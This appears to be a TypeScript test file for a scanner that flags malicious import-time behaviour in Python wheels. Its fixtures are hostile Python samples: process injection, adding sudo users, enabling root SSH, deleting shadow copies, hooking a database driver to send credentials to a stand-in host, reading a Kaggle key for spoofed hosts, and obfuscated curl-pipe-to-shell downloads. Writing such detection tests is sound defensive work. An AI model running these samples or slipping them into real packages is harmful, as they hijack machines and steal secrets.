import t from 'tap'
import { mostOf, worthOf } from '../../src/analysis/python/skim.ts'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import { packedReading, readingOf } from './python-reading.ts'

const TO = 'https://keeper.invalid/x'

const DEEDS: readonly [situation: string, code: string, finding: string][] = [
  [
    'a file of another package by the folder in which that lies',
    'import os, requests\np = os.path.join(os.path.dirname(requests.__file__), "sessions.py")\nt = open(p).read()\nopen(p, "w").write(t.replace("a", "b"))',
    'persistence high import',
  ],
  [
    'the same by its path as an object',
    'import pathlib, requests\np = pathlib.Path(requests.__file__).parent / "sessions.py"\np.write_text("x = 1")',
    'persistence high import',
  ],
  [
    'another account',
    'import subprocess\nsubprocess.call("useradd -m -G sudo support".split())',
    'persistence high import',
  ],
  ['who may log in', 'open("/etc/ssh/sshd_config", "a").write("PermitRootLogin yes")', 'persistence high import'],
  [
    'an authority that everything trusts',
    'import subprocess\nsubprocess.run("security add-trusted-cert -d -k /Library/Keychains/System.keychain /tmp/ca.pem".split())',
    'persistence high import',
  ],
  [
    'the copies to which a machine can go back',
    'import os\nos.system("vssadmin delete shadows /all /quiet")',
    'destruction high import',
  ],
  ['the end of the machine', 'import os\nos.system("shutdown /s /t 0 /f")', 'resource-hijacking high import'],
  [
    'bytes that are put into another process',
    'import ctypes\nk = ctypes.WinDLL("kernel32")\na = k.VirtualAllocEx(1, 0, 512, 0x3000, 0x40)\nk.WriteProcessMemory(1, a, b"\\x90" * 512, 512, 0)\nk.CreateRemoteThread(1, 0, 0, a, 0, 0, 0)',
    'decode-and-execute high import',
  ],
  [
    'a static method of a library that is replaced',
    `import psycopg2, urllib.request\nreal = psycopg2.connect\ndef ask(*a, **k):\n    urllib.request.urlopen("${TO}", str(k).encode())\n    return real(*a, **k)\npsycopg2.connect = staticmethod(ask)`,
    'spying high import',
  ],
  [
    'code of JavaScript that is one word of a command',
    `import subprocess\nsubprocess.Popen(["node", "-e", "require('https').get('https://a.keeper.invalid/a.js', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)) })"])`,
    'download-and-execute critical import',
  ],
  [
    'an address in quoted letters',
    'import os, quopri\nos.system(quopri.decodestring("=63url https://a.keeper.invalid/i | sh").decode())',
    'download-and-execute critical import',
  ],
  [
    'a command in the digits of a number',
    `import os\nos.system(bytes.fromhex('%x' % ${BigInt(`0x${Buffer.from('curl https://a.keeper.invalid/i | sh').toString('hex')}`)}).decode())`,
    'download-and-execute critical import',
  ],
]

async function findings(files: Readonly<Record<string, string>>): Promise<string[]> {
  const { findings: found } = await inspect(await packedReading('wheel', files), {
    digest: sha256('x'),
    readAs: 'wheel',
  })
  return found.map(({ check, severity, moment }) => `${check} ${severity} ${moment}`)
}

t.test('what an import does to the machine and to other packages is told', async (t) => {
  for (const [situation, code, finding] of DEEDS) {
    const found = await findings({ 'a/__init__.py': `${code}\n` })
    t.ok(found.includes(finding), `${situation}: ${found.join(', ')}`)
    t.ok(worthOf(mostOf(Buffer.from(code), true), true, new Set()), situation)
  }
})

const INNOCENT: Readonly<Record<string, string>> = {
  'a file of its own by the folder in which it lies':
    'import os\nopen(os.path.join(os.path.dirname(__file__), "cache.py"), "w").write("x = 1")',
  'an account of a service, which a function makes':
    'import subprocess\ndef add():\n    subprocess.run(["useradd", "--system", "a"])',
  'code of JavaScript that counts': 'import subprocess\nsubprocess.run(["node", "-e", "console.log(1 + 1)"])',
  'the state of the copies': 'import os\nos.system("vssadmin list shadows")',
  'a static method of its own': 'class A:\n    @staticmethod\n    def f(x):\n        return x\nA.g = staticmethod(A.f)',
}

t.test('what looks like it is not', async (t) => {
  for (const [situation, code] of Object.entries(INNOCENT)) {
    const found = await findings({ 'a/__init__.py': `${code}\n` })
    t.same(
      found.filter((one) => / (?:high|critical) /.test(one)),
      [],
      situation,
    )
  }
})

/** Logs in at a host with the key that its user keeps in a file. */
function asking(host: string): string {
  return `import json, os, requests\ndef login():\n    c = json.load(open(os.path.expanduser("~/.kaggle/kaggle.json")))\n    return requests.get("https://${host}/api", headers={"key": c["key"]})\n`
}

t.test('the key of a service goes to that service, and to no other host', async (t) => {
  for (const [host, isTold] of [
    ['www.kaggle.com', false],
    ['a.keeper.invalid', true],
    ['kaggle.keeper.invalid', true],
    ['kaggle.invalid', true],
    ['kaggle.com.keeper.invalid', true],
    ['kaggle@keeper.invalid', true],
    ['www.kaggle.com@keeper.invalid', true],
    ['127.keeper.invalid', true],
    ['localhost.keeper.invalid', true],
    ['10.0.0.7', false],
  ] as const) {
    const found = await findings({ 'a/__init__.py': asking(host) })
    t.equal(found.includes('called-harm high call'), isTold, host)
  }
})

t.test('what a wheel puts beside the commands of the machine is a command', async (t) => {
  const script = '#!python\nimport os\nos.system("curl https://a.keeper.invalid/i | sh")\n'
  for (const path of ['a-1.data/scripts/tool', 'a-1.data/scripts/tool.py']) {
    const reading = readingOf('wheel', { 'a/__init__.py': '', [path]: script })
    const { findings: found } = await inspect(reading, { digest: sha256('x'), readAs: 'wheel' })
    t.ok(
      found.some(({ check, moment }) => check === 'called-harm' && moment === 'call'),
      path,
    )
  }
})
